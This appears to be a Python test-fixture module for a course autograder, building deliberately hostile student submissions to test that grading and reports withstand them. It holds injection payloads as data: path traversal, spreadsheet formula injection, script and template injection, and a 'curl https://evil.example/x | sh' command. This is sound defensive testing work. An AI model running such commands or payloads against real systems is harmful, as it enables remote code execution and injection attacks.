"""Names, texts, results and recordings that are out to do harm."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
from numpy.typing import NDArray

from graders.batch import line_of, outline, write_class, write_feedback
from graders.gradebook import StudentRow
from graders.grading import RECORDING, Checker
from graders.recording.schema import ArrayRecord
from graders.result import Execution, FailedCell, LayerRow, NetworkEvidence, Result
from reference.datasets import DataSet
from tests.builders.evidence import EDGES, accuracy, grid, shown_training, summary
from tests.builders.fashion_cnn import (
    ANSWERS,
    ASSIGNMENT,
    BOOTS,
    FIRST_WRONG,
    MATRICES,
    PREDICTED,
    expected,
    right,
)
from tests.builders.networks import compiled, dense, inputs
from tests.builders.recordings import Run, pair, ran
from tests.builders.results import exercise, info, lost, of_fashion_cnn, question

HOSTILE_NAMES = [
    "../../etc/passwd",
    '=HYPERLINK("http://x";"y")',
    "+1+cmd|' /C calc'!A0",
    "-2",
    "@SUM(1)",
    "＝1",  # noqa: RUF001 - a full-width sign
    "new\nline\r\nand more",
    "nul\x00l",
    "half \ud800 character",
    "a" * 10_000,
    "🧪 Emoji",
    "    Points Possible",
    "Muted",
    'quo"te, comma; semicolon\ttab',
    "",
]
HOSTILE = (
    "<script>alert(1)</script> {{7*7}} {% raw %} <b>x</b> \x1b[31mred\x1b[0m \x07| `a` _b_ *c*"
)


STRANGE = [float("nan"), float("inf"), -1e300, 1e300, 0.1]


def make_hostile() -> Result:
    """Make a result in which every text that a student can influence is out to do harm."""
    long_word = "Donaudampfschifffahrtsgesellschaft" * 12
    right_to_left = "שלום עולם \u202e evil \u202c مرحبا"
    answer = "\n".join([HOSTILE, right_to_left, *(f"line {i}" for i in range(200)), long_word])
    exercises = [
        exercise(
            "1a",
            "Turn images into vectors",
            lost(
                "1a",
                "Fits see 784 inputs",
                message=f"The variable {HOSTILE} was found.",
                expected="(60000, 784)",
                found=HOSTILE + long_word,
                where=HOSTILE,
                hint="Use `reshape`.",
                flag=HOSTILE + long_word,
                evidence=[
                    NetworkEvidence(
                        title=HOSTILE,
                        rows=[LayerRow(expected=None, found=HOSTILE + long_word, same=False)],
                        expected_parameters=None,
                        found_parameters=10**15,
                    ),
                    accuracy(*STRANGE, title=HOSTILE + long_word),
                    accuracy(title="nothing", reference=[], cutoff=float("nan"), chance=7),
                    grid(HOSTILE, EDGES, [[1e300, None, float("inf"), -0.123456, 1e-9]] * 5),
                    shown_training(0),
                    shown_training(99),
                ],
            ),
            manual=question("Why?", answer),
        ),
        exercise("1b", "Scale the pixels", manual=question("Why?", right_to_left)),
    ]
    execution = Execution(
        status="stopped",
        message=HOSTILE,
        device=HOSTILE,
        isolation=[HOSTILE],
        failed_cells=[
            FailedCell(
                index=3,
                exercise=HOSTILE,
                error_type=HOSTILE,
                message=HOSTILE + "\n" + long_word,
                traceback=HOSTILE + "\n```\n# heading\n````\n",
                source=HOSTILE,
                hint=HOSTILE,
            )
        ],
        skipped_commands=["!curl https://evil.example/x | sh " + HOSTILE, "`" * 40],
        cuts=[HOSTILE],
    )
    training = summary(
        title=HOSTILE,
        exercise=HOSTILE,
        status=HOSTILE,
        epochs=2,
        history={
            f"accuracy {HOSTILE}": [0.1, float("inf")],
            "loss": [float("nan"), 1e308],
            "val_loss": [-1e308, None],
        },
        fingerprint=HOSTILE,
        note=HOSTILE,
    )
    return of_fashion_cnn(
        HOSTILE,
        *exercises,
        trainings=[training],
        execution=execution,
        submission=info("", HOSTILE, files=[HOSTILE + ".ipynb"]),
        environment={HOSTILE: {"nested": [HOSTILE]}},
    )


CHECKS = 29


@dataclass
class Case:
    """One recording: its JSON, which tests damage, and its arrays by file name."""

    raw: dict[str, Any]
    files: dict[str, NDArray[Any] | bytes] = field(default_factory=dict)

    def write(self, folder: Path, text: bytes | None = None) -> None:
        """Write it where a student's process would; `text` in place of the JSON."""
        recording = folder / RECORDING
        recording.mkdir(parents=True)
        content = json.dumps(self.raw).encode() if text is None else text
        (recording / "recording.json").write_bytes(content)
        for name, array in self.files.items():
            if isinstance(array, bytes):
                (recording / name).write_bytes(array)
            else:
                np.save(recording / name, array, allow_pickle=True)


def good() -> Case:
    """A right solution; its trainings are claims, so that nobody can judge them."""
    run = right().run
    for training in run.recording.trainings:
        training.predictions = "predicted.npy"
    run.recording.values.update(answers=dict(ANSWERS), first_wrong=FIRST_WRONG)
    return _case(run, MATRICES | {"boots": BOOTS})


def worthless() -> Case:
    """A run of which nothing earns a point."""
    run = Run()
    training = run.fit(
        [inputs(5, 5), dense(3, "tanh"), dense(4, "tanh")],
        compiled("Adam", 0.5, loss="mse", metrics=()),
        items=7,
        epochs=1,
        shape=(5, 5),
        top=255.0,
        split="mixed",
        agreement=0.1,
        validated=False,
    )
    training.predictions = "predicted.npy"
    run.evaluate(training, pair(7, "mixed"), accuracy=0.1)
    run.build([dense(3, "tanh")])
    run.recording.values.update(answers=dict.fromkeys(ANSWERS, "12"), first_wrong="none")
    return _case(run, {name: np.ones((5, 5)) for name in MATRICES} | {"boots": np.arange(3)})


def _case(run: Run, arrays: dict[str, Any]) -> Case:
    for index in range(len(run.recording.cells)):
        run.recording.outcomes.append({"index": index, "status": "ok"})  # type: ignore[arg-type]  # as JSON
    files = {"predicted.npy": PREDICTED}
    for name, array in arrays.items():
        files[f"{name}.npy"] = np.asarray(array)
        record = ArrayRecord(shape=list(np.shape(array)), dtype="int64", file=f"{name}.npy")
        run.recording.arrays[name] = record
    return Case(json.loads(json.dumps(run.recording.model_dump(warnings=False))), files)


class Bench:
    """Checks what lies in a folder, and writes all that a class gets."""

    def __init__(self, data: DataSet) -> None:
        self.checker = Checker(ASSIGNMENT, [data])
        self.checker.__dict__["expected"] = expected()

    def grade(self, folder: Path) -> Result:
        """Grade a written recording; each file is read again as what it must be."""
        of = info("", "Mallory", files=["mallory.ipynb"])
        result = self.checker.check(ran(of=of), folder)
        result.save(folder / "result.json")
        write_feedback(result, folder)
        student = StudentRow("name:Mallory", "Mallory", ".")
        write_class([line_of(outline(result), student)], folder, title=ASSIGNMENT.title)
        return Result.load(folder / "result.json")
